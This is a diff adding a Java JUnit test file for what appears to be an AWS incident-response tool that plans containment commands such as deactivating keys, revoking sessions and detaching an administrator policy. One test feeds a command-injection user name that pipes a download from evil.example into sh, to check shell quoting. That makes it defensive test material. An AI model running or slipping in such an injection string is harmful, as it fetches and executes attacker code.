@@ -1,0 +1,58 @@
+package io.trailsift.investigate;
+
+import io.trailsift.lineage.CredentialActivity;
+import io.trailsift.lineage.CredentialKind;
+import io.trailsift.lineage.Lineage;
+import io.trailsift.lineage.LineageNode;
+import org.junit.jupiter.api.Test;
+
+import java.time.Instant;
+import java.util.List;
+import java.util.Optional;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+class ContainmentTest {
+    private static final Instant AS_OF = Instant.parse("2026-05-23T08:00:00Z");
+
+    private static LineageNode node(String key, String arn, String parent) {
+        return new LineageNode(key, CredentialKind.of(key), Optional.of(arn), Optional.ofNullable(parent), parent == null ? 0 : 1,
+                Optional.empty(), new CredentialActivity(key, Optional.of(arn), List.of("123456789012"), Optional.empty(),
+                Optional.empty(), 1, List.of(), List.of()));
+    }
+
+    private static IamChange change(String event, String user, String policyArn) {
+        return new IamChange(Instant.parse("2026-05-21T12:14:05Z"), "e-" + event, event, "iam.amazonaws.com", "123456789012",
+                "AKIA1234567890ABCDEF", Optional.ofNullable(user), Optional.empty(), Optional.empty(),
+                Optional.ofNullable(policyArn), Optional.empty(), Optional.empty(), Optional.empty(), Optional.empty());
+    }
+
+    @Test
+    void valuesFromTheLogsCannotBreakOutOfTheirShellQuotes() {
+        String hostile = "x'; curl evil.example | sh; echo '";
+        List<ContainmentStep> steps = Containment.plan(new Lineage("AKIA1234567890ABCDEF", List.of()),
+                List.of(change("CreateLoginProfile", hostile, null)), AS_OF);
+        assertEquals(List.of("aws iam delete-login-profile --user-name 'x'\\''; curl evil.example | sh; echo '\\'''"),
+                steps.get(0).commands());
+    }
+
+    @Test
+    void keysAreDeactivatedAndSessionsRevokedOncePerRoleOrUser() {
+        Lineage lineage = new Lineage("AKIA1234567890ABCDEF", List.of(
+                node("AKIA1234567890ABCDEF", "arn:aws:iam::123456789012:user/path/app-user", null),
+                node("ASIA0000000000000001", "arn:aws:sts::123456789012:assumed-role/Deploy/s1", "AKIA1234567890ABCDEF"),
+                node("ASIA0000000000000002", "arn:aws:sts::123456789012:assumed-role/Deploy/s2", "AKIA1234567890ABCDEF"),
+                node("ASIA0000000000000003", "arn:aws:iam::123456789012:user/backdoor", "AKIA1234567890ABCDEF")));
+        List<ContainmentStep> steps = Containment.plan(lineage, List.of(change("CreateAccessKey", "backdoor", null),
+                change("AttachUserPolicy", "backdoor", "arn:aws:iam::aws:policy/AdministratorAccess")), AS_OF);
+        assertEquals(4, steps.size(), steps.toString());
+        assertEquals("aws iam update-access-key --user-name 'app-user' --access-key-id 'AKIA1234567890ABCDEF' --status Inactive",
+                steps.get(0).commands().get(0));
+        assertTrue(steps.get(1).commands().get(0).startsWith("aws iam put-role-policy --role-name 'Deploy' "));
+        assertTrue(steps.get(1).commands().get(0).contains("\"aws:TokenIssueTime\":\"2026-05-23T08:00:00Z\""));
+        assertTrue(steps.get(2).commands().get(0).startsWith("aws iam put-user-policy --user-name 'backdoor' "));
+        assertEquals(List.of("aws iam detach-user-policy --user-name 'backdoor' --policy-arn 'arn:aws:iam::aws:policy/AdministratorAccess'"),
+                steps.get(3).commands());
+    }
+}
